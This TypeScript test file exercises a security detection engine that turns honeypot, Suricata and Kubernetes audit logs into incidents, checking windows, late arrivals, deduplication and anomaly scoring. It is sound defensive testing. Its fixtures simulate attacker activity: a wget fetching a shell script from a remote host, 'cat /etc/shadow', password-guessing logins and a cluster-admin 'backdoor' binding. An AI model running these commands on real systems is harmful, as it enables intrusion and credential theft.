// The engine over a real SQLite store: event-time windows, out-of-order arrival, deduplication, and the model's part.
import { describe, expect, it } from "vitest";
import { auditEvent, clusterRoleBindingObject } from "../../test/detector/fixtures/auditRecords.ts";
import { cowrie } from "../../test/detector/fixtures/cowrieRecords.ts";
import { eve } from "../../test/detector/fixtures/suricataRecords.ts";
import type { AnomalyModel } from "../anomaly/anomalyModel.ts";
import { detectionConfigSchema, type DetectionConfig } from "../config/detectorConfig.ts";
import { ingestFormats } from "../ingest/formats.ts";
import { ingestBatch } from "../ingest/ingestBatch.ts";
import { allRules } from "../rules/allRules.ts";
import type { DetectionRule } from "../rules/detectionRule.ts";
import { SqliteRepository } from "../store/sqliteRepository.ts";
import { severityForRisk } from "../incidents/incident.ts";
import { anomalyRuleName, DetectionEngine } from "./detectionEngine.ts";

const bot = { srcIp: "203.0.113.9", session: "s1" };
const failuresAt = (seconds: number[]) => seconds.map((s, i) => cowrie.loginFailed(bot, s, "root", `pw${i}`));

/** A model with a fixed answer: the engine's use of a score, independent of what the trained model says. */
const fixedModel = (probability: number): AnomalyModel => ({ version: "fixed-test-model", score: (rows) => Promise.resolve(rows.map(() => probability)) });

async function setup(opts: { config?: Partial<DetectionConfig>; model?: AnomalyModel; onModelError?: (err: Error) => void; rules?: DetectionRule[] } = {}) {
  const repository = new SqliteRepository(":memory:");
  await repository.migrate();
  const engine = new DetectionEngine({ config: detectionConfigSchema.parse(opts.config ?? {}), containment: "alert", anomalyModel: opts.model,
    ...(opts.rules ? { rules: opts.rules } : {}),
    ...(opts.onModelError ? { onModelError: opts.onModelError } : {}) });
  // Ingest, then the detector's background pass over what it queued.
  const send = async (records: unknown[], format: "cowrie" | "suricata" | "k8s-audit" = "cowrie") => {
    const r = await ingestBatch({ repository }, ingestFormats[format]!, records.map((x) => JSON.stringify(x)).join("\n"), "default", Date.now());
    if (!r.ok) throw new Error(JSON.stringify(r.issues));
    await repository.detectQueued(100_000, (events, tx) => engine.detectIn(tx, events));
    return r;
  };
  const list = async () => (await repository.listIncidents("default", { limit: 50, offset: 0 })).items;
  return { repository, send, list };
}

describe("large passes", () => {
  it("detects every source of a pass that spans several chunks of sources", async () => {
    const { send, repository } = await setup();
    const bots = Array.from({ length: 150 }, (_, i) => ({ srcIp: `198.18.${Math.floor(i / 200)}.${(i % 200) + 1}`, session: `big${i}` }));
    await send(bots.flatMap((b) => [0, 5, 10, 15, 20, 25].map((t, i) => cowrie.loginFailed(b, t, "root", `pw${i}`))));
    const { items: incidents } = await repository.listIncidents("default", { technique: "T1110.001", limit: 200, offset: 0 });
    expect(incidents.map((i) => i.sourceIp).sort()).toEqual(bots.map((b) => b.srcIp).sort());
    expect(incidents.every((i) => i.evidence.total === 6)).toBe(true);
  });
});

describe("rule windows", () => {
  it("gives each rule the stored events within its own window around the triggers, however wide another rule's is", async () => {
    const seen: Record<string, number[]> = {};
    /** A rule that records the times of the events it was given, in seconds from the batch's trigger, and detects nothing. */
    const recorder = (name: string, windowSeconds: number): DetectionRule => ({
      name, technique: { id: "T0000", name, tactic: "" }, windowMs: () => windowSeconds * 1000, triggerKinds: ["auth.failure"],
      detect: ({ events, triggers }) => {
        seen[name] = events.map((e) => (e.time - triggers[0]!.time) / 1000);
        return [];
      },
    });
    const { send } = await setup({ rules: [recorder("narrow", 60), recorder("wide", 900)] });
    await send(failuresAt([0, 500, 800, 850, 1000, 1070, 1100]));
    await send(failuresAt([1001]));
    expect(seen.narrow).toEqual([-1, 0]);
    expect(seen.wide).toEqual([-501, -201, -151, -1, 0, 69, 99]);
  });
});

describe("serving requests during a pass", () => {
  it("lets the event loop run between slices of a long pass's rule work", async () => {
    const order: string[] = [];
    let calls = 0;
    // 20 sources whose rule takes 3 ms each: 60 ms of work in one chunk.
    const slow: DetectionRule = {
      name: "slow", technique: { id: "T0000", name: "slow", tactic: "" }, windowMs: () => 60_000, triggerKinds: ["auth.failure"],
      detect: () => {
        const until = performance.now() + 3;
        while (performance.now() < until) { /* a busy rule */ }
        if (++calls === 20) order.push("last rule");
        return [];
      },
    };
    const { send } = await setup({ rules: [slow] });
    const records = Array.from({ length: 20 }, (_, i) => cowrie.loginFailed({ srcIp: `198.51.100.${i + 1}`, session: `slow${i}` }, 0, "root", "pw"));
    // Stands for a request waiting to be served while the pass runs (the in-memory store itself never yields).
    setImmediate(() => order.push("request served"));
    await send(records);
    expect(calls).toBe(20);
    expect(order).toEqual(["request served", "last rule"]);
  });
});

describe("recording", () => {
  it("merges two rules' detections of the same technique for one source into one incident, even in one pass", async () => {
    const technique = { id: "T0001", name: "shared", tactic: "" };
    const rule = (name: string, kind: "auth.failure" | "session.connect"): DetectionRule => ({
      name, technique, windowMs: () => 60_000, triggerKinds: ["auth.failure"],
      detect: ({ sourceIp, events }) => {
        const mine = events.filter((e) => e.kind === kind || kind === "session.connect");
        return [{ rule: name, technique, sourceIp, actor: "", events: mine, riskScore: 40, summary: `${name} saw ${mine.length}`, dedupeWindowMs: 60_000 }];
      },
    });
    const { send, list } = await setup({ rules: [rule("first", "auth.failure"), rule("second", "session.connect")] });
    await send([cowrie.connect(bot, 0), ...failuresAt([1, 2])]);
    const incidents = await list();
    expect(incidents).toHaveLength(1);
    expect(incidents[0]).toMatchObject({ detectionKey: "T0001", detectedBy: { rules: ["first", "second"] }, evidence: { total: 3 } });
  });
});

describe("history reads", () => {
  it("reads a source's history only as far as the rules its triggers can fire look, and the model", async () => {
    const rule = (name: string, windowSeconds: number, kind: "auth.failure" | "command"): DetectionRule => ({
      name, technique: { id: "T0000", name, tactic: "" }, windowMs: () => windowSeconds * 1000, triggerKinds: [kind], detect: () => [],
    });
    const rules = [rule("failures", 60, "auth.failure"), rule("commands", 3600, "command")];
    const spans = async (model?: AnomalyModel) => {
      const repository = new SqliteRepository(":memory:");
      await repository.migrate();
      const engine = new DetectionEngine({ config: detectionConfigSchema.parse({}), containment: "alert", rules, anomalyModel: model });
      const r = await ingestBatch({ repository }, ingestFormats.cowrie!, JSON.stringify(failuresAt([0])[0]), "default", Date.now());
      if (!r.ok) throw new Error(JSON.stringify(r.issues));
      const asked: number[] = [];
      await repository.detectQueued(100, (events, tx) => engine.detectIn({
        ...tx,
        eventsForSources: (windows) => {
          asked.push(...windows.map((w) => (w.to - w.from) / 2000));
          return tx.eventsForSources(windows);
        },
      }, events));
      await repository.close();
      return asked;
    };
    // Failed logins run only the 60 s rule: not the command rule's hour.
    expect(await spans()).toEqual([60]);
    // The model looks at the last 300 s of a source's behaviour.
    expect(await spans(fixedModel(0.1))).toEqual([300]);
  });
});

describe("sequence rules' history", () => {
  /** A pass's reads: each window's span before the oldest trigger of its source, in seconds. */
  async function readsBefore(records: unknown[][]): Promise<number[]> {
    const repository = new SqliteRepository(":memory:");
    await repository.migrate();
    const engine = new DetectionEngine({ config: detectionConfigSchema.parse({}), containment: "alert" });
    const asked: number[] = [];
    for (const batch of records) {
      const r = await ingestBatch({ repository }, ingestFormats.cowrie!, batch.map((x) => JSON.stringify(x)).join("\n"), "default", Date.now());
      if (!r.ok) throw new Error(JSON.stringify(r.issues));
      asked.length = 0;
      await repository.detectQueued(100, (events, tx) => engine.detectIn({
        ...tx,
        eventsForSources: (windows) => {
          const oldest = Math.min(...events.map((e) => e.time));
          asked.push(...windows.map((w) => (oldest - w.from) / 1000));
          return tx.eventsForSources(windows);
        },
      }, events));
    }
    await repository.close();
    return asked;
  }

  it("reads failures' history as far as the windows of brute force and spraying, and the login rule's only around a success", async () => {
    // Failed logins alone: the spraying rule's 300 s, not the 600 s a login after failures would need.
    expect(await readsBefore([failuresAt([0, 700])])).toEqual([300]);
    // A success: from the events since it, then the 600 s before it.
    expect(await readsBefore([failuresAt([0]), [cowrie.loginSuccess(bot, 700, "root", "123456")]])).toEqual([0, 600]);
    // A failure less than 600 s before a success already stored: the 600 s before that success (from 100 s).
    expect(await readsBefore([[cowrie.loginSuccess(bot, 700, "root", "123456")], failuresAt([650])])).toEqual([300, 550]);
    // Commands: nothing before them unless one fetches a tool with no login since; then the hour before it.
    expect(await readsBefore([[cowrie.command(bot, 0, "uname -a")]])).toEqual([0]);
    expect(await readsBefore([[cowrie.command(bot, 0, "wget http://198.51.100.9/x.sh")]])).toEqual([0, 3600]);
    // A login with it: the login rule's 600 s before the login; the download has its login.
    expect(await readsBefore([[cowrie.loginSuccess(bot, 0, "root", "123456"), cowrie.command(bot, 5, "wget http://198.51.100.9/x.sh")]])).toEqual([0, 600]);
  });

  // The windows come from the SQLite store's cache of recent events, here far too small for the minutes between a
  // login and what follows it: what the sequence rules need from before the cache is read from the file.
  async function overflowed() {
    const repository = new SqliteRepository(":memory:", { events: 50, linkedEvidenceIds: 1000 });
    await repository.migrate();
    const engine = new DetectionEngine({ config: detectionConfigSchema.parse({}), containment: "alert", anomalyModel: fixedModel(0.1) });
    const send = async (records: unknown[]) => {
      const r = await ingestBatch({ repository }, ingestFormats.cowrie!, records.map((x) => JSON.stringify(x)).join("\n"), "default", Date.now());
      if (!r.ok) throw new Error(JSON.stringify(r.issues));
      await repository.detectQueued(100_000, (events, tx) => engine.detectIn(tx, events));
    };
    /** Connects from other sources over [from, to) seconds, 10 a batch, one a second: the cache holds the last 50 or so. */
    const others = async (from: number, to: number) => {
      for (let t = from; t < to; t += 10) await send(Array.from({ length: 10 }, (_, i) => cowrie.connect({ srcIp: `198.51.100.${i + 1}`, session: `o${t}-${i}` }, t + i)));
    };
    const incidents = async () => (await repository.listIncidents("default", { sourceIp: bot.srcIp, limit: 50, offset: 0 })).items;
    return { send, others, incidents, repository };
  }

  it("finds a tool download 9 minutes after the login it follows, the cache overflowed in between", async () => {
    const { send, others, incidents, repository } = await overflowed();
    await send([cowrie.loginSuccess(bot, 0, "root", "123456")]);
    await others(10, 530);
    await send([cowrie.command(bot, 540, "wget http://198.51.100.9/x.sh -O /tmp/x.sh")]);
    const [incident] = (await incidents()).filter((i) => i.detectionKey === "T1105");
    expect(incident).toMatchObject({ firstSeen: Date.parse("2024-05-14T10:00:00Z"), lastSeen: Date.parse("2024-05-14T10:09:00Z"), evidence: { counts: { "auth.success": 1, command: 1 } } });
    await repository.close();
  });

  it("finds a login 9 minutes after failures, and a download after a login both before the cache, the cache overflowed in between", async () => {
    const { send, others, incidents, repository } = await overflowed();
    await send(failuresAt([0, 10, 20]));
    await others(30, 530);
    await send([cowrie.loginSuccess(bot, 540, "root", "123456")]);
    expect((await incidents()).find((i) => i.detectionKey === "T1078")).toMatchObject({ firstSeen: Date.parse("2024-05-14T10:00:00Z"), evidence: { counts: { "auth.failure": 3, "auth.success": 1 } } });
    // A download record of the first minutes, arriving late: the login it follows is before the cache too.
    await others(550, 800);
    await send([cowrie.download(bot, 545, "http://198.51.100.9/x.sh", "ab".repeat(32))]);
    expect((await incidents()).find((i) => i.detectionKey === "T1105")).toMatchObject({ firstSeen: Date.parse("2024-05-14T10:09:00Z"), lastSeen: Date.parse("2024-05-14T10:09:05Z") });
    await repository.close();
  });

  it("raises the same incidents as the rules given their whole windows, over random streams arriving out of order", async () => {
    /** The rules with `historyFrom` taken away: the engine reads each one's whole window. */
    const whole = allRules.map((r) => {
      const rule: DetectionRule = { ...r };
      delete rule.historyFrom;
      return rule;
    });
    const next = (() => {
      let x = 7;
      return () => ((x = (Math.imul(x ^ (x >>> 15), 0x2c1b3c6d) + 0x6d2b79f5) >>> 0) / 2 ** 32);
    })();
    for (let round = 0; round < 12; round++) {
      const bots = [0, 1, 2].map((i) => ({ srcIp: `203.0.113.${20 + i}`, session: `r${round}-${i}` }));
      const records = Array.from({ length: 160 }, (_, n) => {
        const b = bots[Math.floor(next() * bots.length)]!;
        const t = Math.floor(next() * 60) * 75;
        const k = next();
        if (k < 0.5) return cowrie.loginFailed(b, t, ["root", "admin", "pi", "test", "oracle", "ubuntu"][n % 6]!, `pw${n % 3}`);
        if (k < 0.6) return cowrie.loginSuccess(b, t, "root", "123456");
        if (k < 0.7) return cowrie.command(b, t, "wget http://198.51.100.9/x.sh");
        if (k < 0.75) return cowrie.download(b, t, "http://198.51.100.9/y.sh", "cd".repeat(32));
        if (k < 0.85) return cowrie.command(b, t, "uname -a");
        return cowrie.connect(b, t);
      });
      const batches: unknown[][] = [];
      for (let i = 0; i < records.length;) {
        const n = 1 + Math.floor(next() * 25);
        batches.push(records.slice(i, i + n));
        i += n;
      }
      const outcome = async (rules: DetectionRule[]) => {
        const repository = new SqliteRepository(":memory:", { events: 20, linkedEvidenceIds: 50 });
        await repository.migrate();
        const engine = new DetectionEngine({ config: detectionConfigSchema.parse({}), containment: "alert", rules, anomalyModel: fixedModel(0.1) });
        for (const batch of batches) {
          const r = await ingestBatch({ repository }, ingestFormats.cowrie!, batch.map((x) => JSON.stringify(x)).join("\n"), "default", Date.now());
          if (!r.ok) throw new Error(JSON.stringify(r.issues));
          await repository.detectQueued(100_000, (events, tx) => engine.detectIn(tx, events));
        }
        const { items } = await repository.listIncidents("default", { limit: 500, offset: 0 });
        const out = await Promise.all(items.map(async (i) => ({ key: i.detectionKey, sourceIp: i.sourceIp, firstSeen: i.firstSeen, lastSeen: i.lastSeen, risk: i.riskScore, severity: i.severity,
          summary: i.summary, rules: i.detectedBy.rules, evidence: (await repository.getIncident("default", i.id))!.events.map((e) => e.id).sort() })));
        await repository.close();
        return out.sort((a, b) => `${a.sourceIp} ${a.key} ${a.firstSeen}`.localeCompare(`${b.sourceIp} ${b.key} ${b.firstSeen}`));
      };
      const expected = await outcome(whole);
      expect({ round, incidents: await outcome(allRules) }).toEqual({ round, incidents: expected });
      expect(expected.some((i) => i.key === "T1105") && expected.some((i) => i.key === "T1078")).toBe(true);
    }
  });
});

describe("sequences across batches", () => {
  // The engine runs a rule for a source only when a trigger of the batch is of a kind the rule can fire on: each
  // second half below arrives alone and must still complete the first.
  it("a wget command arriving after the login it follows", async () => {
    const { send, list } = await setup();
    await send([cowrie.loginSuccess(bot, 0, "root", "123456")]);
    await send([cowrie.command(bot, 60, "wget http://198.51.100.9/x.sh -O /tmp/x.sh")]);
    expect((await list()).map((i) => i.detectionKey)).toContain("T1105");
  });

  it("failures arriving after the successful login they preceded", async () => {
    const { send, list } = await setup();
    await send([cowrie.loginSuccess(bot, 100, "root", "123456")]);
    await send(failuresAt([10, 20, 30]));
    expect((await list()).map((i) => i.detectionKey)).toContain("T1078");
  });
});

describe("event-time windows", () => {
  it("fires at the threshold within the window, measured in event time", async () => {
    const { send, list } = await setup();
    await send(failuresAt([0, 10, 20, 30, 40, 60]));
    expect((await list()).map((i) => i.detectionKey)).toEqual(["T1110.001"]);
  });

  it("does not fire when the same failures span more than the window, however fast they arrive", async () => {
    const { send, list } = await setup();
    await send(failuresAt([0, 13, 26, 39, 52, 65]));
    expect(await list()).toEqual([]);
  });

  it("uses the configured threshold and window", async () => {
    const { send, list } = await setup({ config: { bruteForce: { threshold: 3, windowSeconds: 10 } } });
    await send(failuresAt([0, 4, 8]));
    expect((await list()).map((i) => i.detectionKey)).toEqual(["T1110.001"]);
  });

  it("completes a window from events that arrive late and out of order, across batches", async () => {
    const { send, list } = await setup();
    const events = failuresAt([0, 5, 10, 15, 20, 25]);
    await send([events[5], events[3]]);
    await send([events[0]]);
    expect(await list()).toEqual([]);
    await send([events[4], events[1], events[2]]);
    const [incident] = await list();
    expect(incident).toMatchObject({ detectionKey: "T1110.001", firstSeen: Date.parse("2024-05-14T10:00:00Z"), lastSeen: Date.parse("2024-05-14T10:00:25Z"), evidence: { total: 6 } });
  });
});

describe("batching", () => {
  const shape = (items: Awaited<ReturnType<Awaited<ReturnType<typeof setup>>["list"]>>) =>
    items.map((i) => ({ key: i.detectionKey, firstSeen: i.firstSeen, lastSeen: i.lastSeen, evidence: i.evidence.total, risk: i.riskScore })).sort((a, b) => a.firstSeen - b.firstSeen);

  it("keeps two attacks an hour apart two incidents when one batch holds both (a log replayed)", async () => {
    const early = failuresAt([0, 5, 10, 15, 20, 25]);
    const late = failuresAt([3600, 3605, 3610, 3615, 3620, 3625]).map((r, i) => ({ ...r, password: `late${i}` }));
    const apart = await setup();
    await apart.send(early);
    await apart.send(late);
    const together = await setup();
    await together.send([...early, ...late]);
    expect(shape(await together.list())).toEqual(shape(await apart.list()));
    expect(shape(await together.list()).map((i) => [i.evidence, i.risk])).toEqual([[6, 51], [6, 51]]);
  });

  it("judges stretches apart when the gap between them is only a little wider than the rule's window", async () => {
    // 61 s between the last failure of one stretch and the first of the next: no 60 s window holds both, so the
    // batch's detection is two (merged into one incident: brute force's dedupe window is five of its windows), and the
    // summary is the later stretch's 6 failures, not 12 (risk 51, not 57), as when the stretches come apart.
    const stretches = failuresAt([0, 5, 10, 15, 20, 25, 86, 91, 96, 101, 106, 111]);
    const together = await setup();
    await together.send(stretches);
    const apart = await setup();
    await apart.send(stretches.slice(0, 6));
    await apart.send(stretches.slice(6));
    const view = (items: Awaited<ReturnType<Awaited<ReturnType<typeof setup>>["list"]>>) => items.map((i) => ({ summary: i.summary, risk: i.riskScore, evidence: i.evidence.total }));
    expect(view(await together.list())).toEqual(view(await apart.list()));
    expect(view(await together.list())).toEqual([{ summary: expect.stringMatching(/^6 failed logins/) as string, risk: 51, evidence: 12 }]);
  });
});

describe("deduplication", () => {
  it("updates one incident while an attack goes on, and opens a new one after it was resolved", async () => {
    const { repository, send, list } = await setup();
    await send(failuresAt([0, 5, 10, 15, 20, 25]));
    await send(failuresAt([100, 105, 110, 115, 120, 125]).map((r, i) => ({ ...r, password: `later${i}` })));
    const [first, ...others] = await list();
    expect(others).toEqual([]);
    expect(first).toMatchObject({ evidence: { total: 12 }, lastSeen: Date.parse("2024-05-14T10:02:05Z") });

    await repository.setIncidentStatus("default", first!.id, "resolved", "anna", Date.now());
    await send(failuresAt([200, 205, 210, 215, 220, 225]).map((r, i) => ({ ...r, password: `again${i}` })));
    const after = await list();
    expect(after).toHaveLength(2);
    expect(after.find((i) => i.id !== first!.id)).toMatchObject({ status: "open", evidence: { total: 6 } });
  });

  it("adds a late record from inside a resolved incident's span to it, leaving it resolved; activity after it opens a new one", async () => {
    const { repository, send, list } = await setup();
    const burst = failuresAt([0, 1, 2, 3, 4, 5, 6, 7]);
    await send(burst);
    const [first, ...others] = await list();
    expect(others).toEqual([]);
    const resolved = await repository.setIncidentStatus("default", first!.id, "resolved", "anna", Date.now());
    expect(resolved).toMatchObject({ status: "resolved", evidence: { total: 8 } });

    // One record of the burst, from a second sensor (or a slow forwarder), arrives after the resolve.
    const straggler = cowrie.loginFailed({ ...bot, session: "s2", sensor: "cowrie-eu-2" }, 3.5, "root", "pw-late");
    expect((await send([straggler])).accepted).toBe(1);
    const afterStraggler = await list();
    expect(afterStraggler).toHaveLength(1);
    // Linked to what the analyst resolved, which stays as they left it: status, span, risk, severity.
    expect(afterStraggler[0]).toEqual({ ...resolved, evidence: { counts: { "auth.failure": 9 }, total: 9 } });
    expect((await repository.getIncident("default", first!.id))?.events.map((e) => e.time)).toContain(Date.parse("2024-05-14T10:00:03.500Z"));

    // A record after the resolved span (inside the rule's window, so the rule fires again): new activity, a new incident.
    await send([cowrie.loginFailed(bot, 30, "root", "pw-after")]);
    const afterNew = await list();
    expect(afterNew).toHaveLength(2);
    expect(afterNew.find((i) => i.id === first!.id)).toMatchObject({ status: "resolved", lastSeen: resolved!.lastSeen, evidence: { total: 9 } });
    expect(afterNew.find((i) => i.id !== first!.id)).toMatchObject({ status: "open", lastSeen: Date.parse("2024-05-14T10:00:30Z") });
  });

  it("opens a new incident after a resolve when a pass's triggers of one detection lie partly outside the resolved span", async () => {
    const { repository, send, list } = await setup();
    await send(failuresAt([0, 1, 2, 3, 4, 5, 6, 7]));
    const [first] = await list();
    await repository.setIncidentStatus("default", first!.id, "resolved", "anna", Date.now());
    // One pass holds a late record from inside the span and a new attempt after it.
    await send([cowrie.loginFailed({ ...bot, session: "s2", sensor: "cowrie-eu-2" }, 3.5, "root", "pw-late"), cowrie.loginFailed(bot, 40, "root", "pw-after")]);
    const after = await list();
    expect(after).toHaveLength(2);
    expect(after.find((i) => i.id === first!.id)).toMatchObject({ status: "resolved", evidence: { total: 8 } });
    expect(after.find((i) => i.id !== first!.id)).toMatchObject({ status: "open", evidence: { total: 10 } });
  });

  it("opens a new incident for a burst well after a resolved one, beyond the rule's window", async () => {
    const { repository, send, list } = await setup();
    await send(failuresAt([0, 1, 2, 3, 4, 5, 6, 7]));
    const [first] = await list();
    await repository.setIncidentStatus("default", first!.id, "resolved", "anna", Date.now());
    await send(failuresAt([300, 301, 302, 303, 304, 305]).map((r, i) => ({ ...r, password: `again${i}` })));
    const after = await list();
    expect(after).toHaveLength(2);
    expect(after.find((i) => i.id !== first!.id)).toMatchObject({ status: "open", evidence: { total: 6 }, firstSeen: Date.parse("2024-05-14T10:05:00Z") });
    expect(after.find((i) => i.id === first!.id)).toMatchObject({ status: "resolved", evidence: { total: 8 } });
  });

  it("gives a retried batch the same result: no new incident, no double-counted evidence", async () => {
    const { send, list } = await setup();
    const batch = failuresAt([0, 5, 10, 15, 20, 25]);
    await send(batch);
    await send(batch);
    const incidents = await list();
    expect(incidents).toHaveLength(1);
    expect(incidents[0]!.evidence.total).toBe(6);
  });
});

describe("anomaly model", () => {
  it("raises risk and severity of a rule's incident when the model scores the source above the threshold", async () => {
    const calm = await setup({ model: fixedModel(0.1) });
    const alarmed = await setup({ model: fixedModel(0.99) });
    await calm.send(failuresAt([0, 5, 10, 15, 20, 25]));
    await alarmed.send(failuresAt([0, 5, 10, 15, 20, 25]));
    const [low] = await calm.list();
    const [high] = await alarmed.list();
    expect(high!.riskScore).toBeGreaterThan(low!.riskScore + 15);
    expect(["high", "critical"]).toContain(high!.severity);
    expect(high!.detectedBy).toEqual({ rules: ["ssh-brute-force"], model: { version: "fixed-test-model", score: 0.99 } });
    // Only the rule's incident: the model does not add a second one for the same activity.
    expect((await alarmed.list()).map((i) => i.detectionKey)).toEqual(["T1110.001"]);
  });

  // An outsider binds cluster-admin (rule risk 90) from a source the model has only audit events of.
  const clusterAdminBinding = auditEvent(0, {
    user: "mallory", verb: "create", resource: "clusterrolebindings", apiGroup: "rbac.authorization.k8s.io", name: "backdoor",
    requestURI: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", code: 201,
    requestObject: clusterRoleBindingObject("backdoor", "cluster-admin", "eve@example.com"),
  });
  // A load balancer health-checking 25 NodePorts of a node within a minute: a port scan to the rule (risk 40).
  const nodePortHealthChecks = Array.from({ length: 25 }, (_, i) => eve.flow(i * 2, "10.0.0.250", "10.0.1.11", 30000 + i, 120, 300));

  it("never lowers a Kubernetes audit detection: a low score there is no evidence it is benign", async () => {
    const calm = await setup({ model: fixedModel(0) });
    await calm.send([clusterAdminBinding], "k8s-audit");
    expect(await calm.list()).toMatchObject([{ detectionKey: "T1098.006", actor: "mallory", riskScore: 90, severity: "critical", detectedBy: { model: { score: 0 } } }]);
    // Its agreement still counts.
    const alarmed = await setup({ model: fixedModel(1) });
    await alarmed.send([clusterAdminBinding], "k8s-audit");
    expect(await alarmed.list()).toMatchObject([{ detectionKey: "T1098.006", riskScore: 100, severity: "critical" }]);
    // Other sources' detections are still lowered by a low score.
    const doubtful = await setup({ model: fixedModel(0) });
    await doubtful.send(failuresAt([0, 5, 10, 15, 20, 25]));
    expect(await doubtful.list()).toMatchObject([{ detectionKey: "T1110.001", riskScore: 51 - 10 }]);
  });

  it("gives a rule's incident the severity of its final risk, the model's agreement included: a higher risk is never a lower severity", async () => {
    const agreeing = await setup({ model: fixedModel(1) });
    await agreeing.send(nodePortHealthChecks, "suricata");
    const [scan] = await agreeing.list();
    expect(scan).toMatchObject({ detectionKey: "T1046", riskScore: 60, severity: "high" });
    const doubting = await setup({ model: fixedModel(0) });
    await doubting.send([clusterAdminBinding], "k8s-audit");
    const [binding] = await doubting.list();
    expect(binding!.riskScore).toBeGreaterThan(scan!.riskScore);
    expect(binding!.severity).toBe("critical");
    // Every threshold the model may be given: severity is the risk's.
    for (const anomalyThreshold of [0.42, 0.8]) {
      for (const p of [0, 0.3, 0.5, 0.9, 1]) {
        const { send, list } = await setup({ model: fixedModel(p), config: { anomalyThreshold } });
        await send(nodePortHealthChecks, "suricata");
        await send(failuresAt([0, 5, 10, 15, 20, 25]));
        for (const i of await list()) expect(i.severity, `${i.detectionKey} p=${p}`).toBe(severityForRisk(i.riskScore));
      }
    }
  });

  it("raises an anomaly incident on its own when no rule fires and the score passes the threshold", async () => {
    const { send, list } = await setup({ model: fixedModel(0.9), config: { anomalyThreshold: 0.8 } });
    await send([cowrie.loginSuccess(bot, 0, "root", "x"), cowrie.command(bot, 5, "cat /etc/shadow")]);
    const [incident] = await list();
    expect(incident).toMatchObject({ detectionKey: "anomaly", techniques: [], detectedBy: { rules: [anomalyRuleName], model: { version: "fixed-test-model", score: 0.9 } }, evidence: { total: 2 } });
    // Its severity follows its risk, as every incident's does (the model's agreement bump is for rule incidents).
    expect(incident!.severity).toBe(severityForRisk(incident!.riskScore));
    expect(incident!.severity).not.toBe("critical");
  });

  it("scores each stretch of a batch's activity, not only the 300 s before its newest event", async () => {
    // A model that finds the first window it is given anomalous and the others not: here the stretch of failed
    // logins at 0-280 s, an hour before a single connect in the same batch.
    const scored: number[] = [];
    const firstOnly: AnomalyModel = { version: "first-window", score: (rows) => {
      scored.push(rows.length);
      return Promise.resolve(rows.map((_, i) => (i === 0 ? 0.9 : 0.1)));
    } };
    const { send, list } = await setup({ model: firstOnly, config: { anomalyThreshold: 0.8, bruteForce: { threshold: 50, windowSeconds: 60 } } });
    await send([...failuresAt([0, 40, 80, 120, 160, 200, 240, 280]), cowrie.connect(bot, 3000)]);
    expect(scored).toEqual([2]);
    const [incident] = await list();
    expect(incident).toMatchObject({ detectionKey: "anomaly", firstSeen: Date.parse("2024-05-14T10:00:00Z"), evidence: { total: 8 } });
  });

  it("still raises the rules' incidents when the model fails, and says so", async () => {
    const failures: string[] = [];
    const broken: AnomalyModel = { version: "broken", score: () => Promise.reject(new Error("onnxruntime: session lost")) };
    const { send, list } = await setup({ model: broken, onModelError: (err) => failures.push(err.message) });
    await send(failuresAt([0, 10, 20, 30, 40, 50]));
    const [incident] = await list();
    expect(incident).toMatchObject({ detectionKey: "T1110.001", detectedBy: { rules: ["ssh-brute-force"] } });
    expect(incident!.detectedBy.model).toBeUndefined();
    expect(failures).toEqual(["onnxruntime: session lost"]);
  });

  it("raises nothing below the threshold", async () => {
    const { send, list } = await setup({ model: fixedModel(0.79), config: { anomalyThreshold: 0.8 } });
    await send([cowrie.loginSuccess(bot, 0, "root", "x"), cowrie.command(bot, 5, "cat /etc/shadow")]);
    expect(await list()).toEqual([]);
  });
});
